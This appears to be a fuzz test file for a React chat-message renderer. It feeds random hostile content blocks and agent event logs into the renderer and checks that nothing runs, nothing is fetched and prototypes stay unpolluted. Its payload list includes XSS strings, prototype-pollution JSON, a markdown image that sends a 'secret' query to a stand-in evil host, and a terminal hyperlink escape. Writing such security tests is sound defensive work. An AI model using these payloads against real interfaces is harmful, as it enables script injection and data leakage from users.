/*
 * Property tests: random hostile blocks, and random event logs folded by the reducer, rendered
 * through `<Message>`. Whatever arrives, the message renders, no block's renderer throws (a
 * boundary catching one would log, and the setup fails any test that logs), nothing runs or is
 * requested, and the built-in prototypes stay as they were.
 */
import fc from 'fast-check';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { render } from 'vitest-browser-react';
import type { ContentBlock, JsonValue, Msg } from '../../src/index.js';
import type { AgentEvent, ToolResultState } from '../../src/core.js';
import { AgentMessagesProvider, Message } from '../../src/index.js';
import { foldEvents, parseContentBlock, toolCallBlock } from '../../src/core.js';
import { createEventFactory } from '../fixtures/events.js';
import { EVIL, PWN, done, live } from './corpus/case.js';
import { installTraps, prototypeFingerprint, resetTraps, trapped } from './harness.js';
import { SAFETY, frames } from './run-case.js';
import { fuzzRuns, fuzzTimeout } from '../fuzz-runs.js';

const RUNS = fuzzRuns(60);

const payloads = fc.constantFrom(
  `<img src=x onerror=${PWN}>`,
  `[x](javascript:${PWN})`,
  `![](https://${EVIL}/?q=secret)`,
  `<script>${PWN}</script>`,
  '\u202Egnp.exe',
  String.fromCodePoint(0xe0041, 0xe0042),
  '__proto__',
  'constructor',
  '{"__proto__":{"polluted":1}}',
  `https://${EVIL}/x.png`,
  'data:text/html,<script>alert(1)</script>',
  '\u001b]8;;https://attacker.test\u0007x\u001b]8;;\u0007',
  '$\\href{javascript:alert(1)}{x}$',
);
const markdownish = fc.string({
  unit: fc.constantFrom(
    '*',
    '_',
    '[',
    ']',
    '(',
    ')',
    '<',
    '>',
    '`',
    '|',
    '#',
    '-',
    ' ',
    '\n',
    '!',
    '~',
    '\\',
    'a',
    ':',
    '/',
  ),
  maxLength: 120,
});
const hostile = fc.oneof(
  payloads,
  markdownish,
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 20 }),
  fc.tuple(payloads, markdownish).map(([a, b]) => `${a}${b}`),
);
const mediaType = fc.oneof(
  fc.constantFrom(
    'image/png',
    'image/svg+xml',
    'text/html',
    'application/pdf',
    'audio/mpeg',
    'video/mp4',
    '',
    'IMAGE/PNG; x=1',
  ),
  hostile,
);
const source = fc.oneof(
  fc.record({
    type: fc.constant('url'),
    url: fc.oneof(hostile, fc.webUrl()),
    media_type: mediaType,
  }),
  fc.record({
    type: fc.constant('base64'),
    data: fc.oneof(fc.base64String({ maxLength: 40 }), hostile),
    media_type: mediaType,
  }),
  fc.record({ type: fc.constant('file_id'), file_id: hostile, media_type: mediaType }),
);
const json: fc.Arbitrary<JsonValue> = fc
  .jsonValue({ maxDepth: 4 })
  .map((value) => value as JsonValue);
const fin = { created_at: '2026-09-01T12:00:00.000000', finished_at: '2026-09-01T12:00:01.000000' };

/** Raw block JSON as a producer might send it: any block type, hostile fields, extra keys. */
const rawBlock = fc.oneof(
  fc.record({
    type: fc.constant('text'),
    text: hostile,
    citations: fc.array(fc.record({ url: hostile, title: hostile }), { maxLength: 2 }),
  }),
  fc.record({ type: fc.constant('thinking'), thinking: hostile }),
  fc.record({
    type: fc.constant('data'),
    source,
    name: fc.option(hostile),
    alt: hostile,
    thumbnail: source,
  }),
  fc.record({ type: fc.constant('hint'), hint: hostile, source: fc.option(hostile) }),
  fc.record({
    type: fc.constant('tool_call'),
    name: hostile,
    input: fc.oneof(
      hostile,
      json.map((v) => JSON.stringify(v)),
    ),
    state: fc.constantFrom('pending', 'asking', 'finished'),
  }),
  fc.record({
    type: fc.constant('tool_result'),
    name: hostile,
    output: hostile,
    state: fc.constantFrom('running', 'success', 'error'),
    value: json,
  }),
  fc.record({ type: fc.constant('error'), message: hostile, code: hostile, data: json }),
  fc.record({ type: hostile, payload: json }),
);

async function renderAll(messages: readonly Msg[], { contained = false } = {}) {
  resetTraps();
  const prototypes = prototypeFingerprint();
  const screen = await render(
    <AgentMessagesProvider safety={SAFETY}>
      {messages.map((message) => (
        <Message key={message.id} message={message} onDecision={() => undefined} />
      ))}
    </AgentMessagesProvider>,
  );
  await frames();
  const root = screen.container;
  expect(root.querySelectorAll('[data-slot="message"]')).toHaveLength(messages.length);
  if (!contained) expect(root.querySelectorAll('[data-slot="block-error"]')).toHaveLength(0);
  expect(trapped(root)).toEqual([]);
  expect(prototypeFingerprint()).toBe(prototypes);
  await screen.unmount();
}

beforeAll(() => installTraps());

describe('fuzzing <Message>', { timeout: fuzzTimeout(60_000) }, () => {
  it('renders random hostile blocks, parsed as the wire would deliver them', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(rawBlock, { minLength: 1, maxLength: 6 }),
        fc.boolean(),
        async (raws, open) => {
          const blocks = raws.map((raw, index) => {
            const parsed = parseContentBlock({ id: `b${index}`, ...fin, ...raw });
            return parsed as ContentBlock;
          });
          await renderAll([open ? live(...blocks) : done(...blocks)]);
        },
      ),
      { numRuns: RUNS },
    );
  });

  it('contains unvalidated blocks of any shape: a block may fail, the message never does', async () => {
    // A boundary that catches logs through React; here that is allowed, not a failure.
    const logged = vi.spyOn(console, 'error').mockImplementation(() => undefined);
    const anything = fc.dictionary(
      fc.constantFrom(
        'id',
        'text',
        'name',
        'input',
        'source',
        'output',
        'hint',
        'citations',
        'state',
        'value',
        'raw',
        'message',
      ),
      fc.oneof(json, hostile),
      { maxKeys: 6 },
    );
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.tuple(
            fc.constantFrom(
              'text',
              'thinking',
              'data',
              'hint',
              'tool_call',
              'tool_result',
              'error',
              'unknown',
              'other',
            ),
            anything,
          ),
          { minLength: 1, maxLength: 4 },
        ),
        async (raws) => {
          const blocks = raws.map(
            ([type, fields], index) =>
              ({ id: `b${index}`, type, ...fields }) as unknown as ContentBlock,
          );
          await renderAll([done(...blocks)], { contained: true });
        },
      ),
      { numRuns: RUNS },
    );
    logged.mockRestore();
  });

  it('renders the messages of random event logs, finished or cut off mid-stream', async () => {
    const step = fc.oneof(
      fc.tuple(
        fc.constant('text' as const),
        fc.constantFrom('t1', 't2'),
        fc.array(hostile, { maxLength: 3 }),
        fc.boolean(),
      ),
      fc.tuple(
        fc.constant('thinking' as const),
        fc.constantFrom('k1', 't1'),
        fc.array(hostile, { maxLength: 3 }),
        fc.boolean(),
      ),
      fc.tuple(
        fc.constant('data' as const),
        fc.constantFrom('d1', 'd2'),
        fc.array(fc.base64String({ maxLength: 16 }), { maxLength: 3 }),
        mediaType,
      ),
      fc.tuple(
        fc.constant('hint' as const),
        fc.constantFrom('h1', 't1'),
        hostile,
        fc.option(hostile),
      ),
      fc.tuple(
        fc.constant('tool' as const),
        fc.constantFrom('c1', 'c2'),
        hostile,
        fc.array(hostile, { maxLength: 3 }),
        hostile,
        fc.constantFrom<ToolResultState>('success', 'error', 'denied', 'running'),
        fc.boolean(),
      ),
      fc.tuple(
        fc.constant('end' as const),
        fc.constantFrom('completed', 'error', 'interrupted'),
        hostile,
      ),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(step, { maxLength: 8 }), fc.nat(), async (steps, cutAt) => {
        const f = createEventFactory('z');
        const events: AgentEvent[] = [f.replyStart('r1', 'Friday')];
        for (const s of steps) {
          if (s[0] === 'text' || s[0] === 'thinking') {
            const [kind, id, deltas, end] = s;
            events.push(kind === 'text' ? f.textStart('r1', id) : f.thinkingStart('r1', id));
            for (const d of deltas)
              events.push(
                kind === 'text' ? f.textDelta('r1', id, d) : f.thinkingDelta('r1', id, d),
              );
            if (end) events.push(kind === 'text' ? f.textEnd('r1', id) : f.thinkingEnd('r1', id));
          } else if (s[0] === 'data') {
            const [, id, chunks, type] = s;
            events.push(
              f.dataStart('r1', id, type),
              ...chunks.map((c) => f.dataDelta('r1', id, c, type)),
              f.dataEnd('r1', id),
            );
          } else if (s[0] === 'hint') {
            events.push(f.hint('r1', s[1], s[2], s[3]));
          } else if (s[0] === 'tool') {
            const [, id, name, deltas, output, state, ask] = s;
            events.push(
              f.toolCallStart('r1', id, name),
              ...deltas.map((d) => f.toolCallDelta('r1', id, d)),
              f.toolCallEnd('r1', id),
            );
            if (ask) {
              const pending = toolCallBlock({ id, name, input: deltas.join(''), state: 'asking' });
              events.push(
                f.make('REQUIRE_USER_CONFIRM', { reply_id: 'r1', tool_calls: [pending] }),
              );
            } else {
              events.push(
                f.toolResultStart('r1', id, name),
                f.toolResultText('r1', id, output),
                f.toolResultEnd('r1', id, state),
              );
            }
          } else {
            const [, reason, message] = s;
            events.push(
              f.replyEnd('r1', reason, reason === 'error' ? { type: 'ModelError', message } : null),
            );
          }
        }
        const cut = events.slice(0, 1 + (cutAt % events.length));
        await renderAll(foldEvents(events).messages);
        await renderAll(foldEvents(cut).messages);
      }),
      { numRuns: RUNS },
    );
  });
});
